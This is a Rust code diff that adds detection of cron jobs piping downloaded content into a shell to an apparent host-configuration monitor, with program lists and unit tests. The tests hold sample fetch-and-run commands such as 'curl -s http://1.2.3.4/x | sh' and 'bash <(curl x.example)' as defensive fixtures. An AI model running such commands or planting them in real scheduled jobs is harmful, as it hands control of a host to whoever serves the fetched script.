@@ -46,6 +46,10 @@ const GUARDS: [&str; 7] = [
 /// Rights that more people than before have by: to write for the group, anything for others, to run as the owner.
 const WIDER: u32 = 0o6027;
 
+/// Programs that fetch something from elsewhere, and those that run what they are handed.
+const FETCH: [&str; 3] = ["curl", "fetch", "wget"];
+const RUN: [&str; 9] = ["ash", "bash", "dash", "ksh", "perl", "python", "python3", "sh", "zsh"];
+
 /// Settings of sshd that say who is let in, and by what.
 const LETS_IN: [&str; 14] = [
     "allowgroups",
@@ -82,8 +86,19 @@ pub fn opens(id: &SeriesId) -> bool {
             ];
             folder.iter().any(|start| path.starts_with(start)) || holds_accounts(path) || path.ends_with("/pg_hba.conf")
         }
+        Subject::Cron { command, .. } => runs_what_it_fetches(command),
         _ => false,
     }
+}
+
+/// Whether a command hands what it fetches to a shell: whoever is at the other end then decides what is run here.
+fn runs_what_it_fetches(command: &str) -> bool {
+    let words = command.split(|c: char| c.is_whitespace() || "|&;<>()$`'\"".contains(c));
+    let mut programs = words.map(|word| word.rsplit('/').next().unwrap_or(word));
+    // A pipe hands on, and so does what stands for a text or a file.
+    let handed = ["|", "$(", "<(", "`"].iter().any(|sign| command.contains(sign));
+    let fetches = programs.clone().any(|program| FETCH.contains(&program));
+    handed && fetches && programs.any(|program| RUN.contains(&program))
 }
 
 /// Whether what a setting says now protects the host less than what it said before.
@@ -161,6 +176,7 @@ fn admits(id: &SeriesId, now: Option<&Value>, before: Option<&Value>) -> bool {
         Subject::File { path, .. } => ["sudoers", "pam.d/", "security/access"]
             .iter()
             .any(|start| path.starts_with(start)),
+        Subject::Cron { command, .. } => now.is_some() && runs_what_it_fetches(command),
         // A rule that is gone.
         Subject::Firewall { .. } => now.is_none() && before.is_some(),
         _ => false,
@@ -192,6 +208,26 @@ mod tests {
             Some("active"),
             Some("inactive")
         ));
+        for command in [
+            "curl -s http://1.2.3.4/x | sh",
+            "/usr/bin/wget -qO- x.example|/bin/bash -s",
+            "bash -c \"$(curl -fsSL x.example)\"",
+            "bash <(curl x.example)",
+        ] {
+            let job = format!("cron./etc/cron.d/x:{command}");
+            assert!(
+                concerns(&job, None, Some("* * * * * root")) && opens(&setting(&job)),
+                "{job}"
+            );
+            assert!(!concerns(&job, Some("* * * * * root"), None));
+        }
+        for command in [
+            "curl -fsS x.example/ping > /dev/null",
+            "/opt/backup.sh | logger",
+            "sh /opt/curl/run",
+        ] {
+            assert!(!opens(&setting(&format!("cron./etc/cron.d/x:{command}"))), "{command}");
+        }
         assert!(!concerns("etc.ssh/sshd_config:MaxAuthTries", Some("6"), Some("3")));
         assert!(!concerns("account.user.bob:uid", None, Some("1001")));
         assert!(!concerns("sysctl.vm.swappiness", Some("60"), Some("10")));
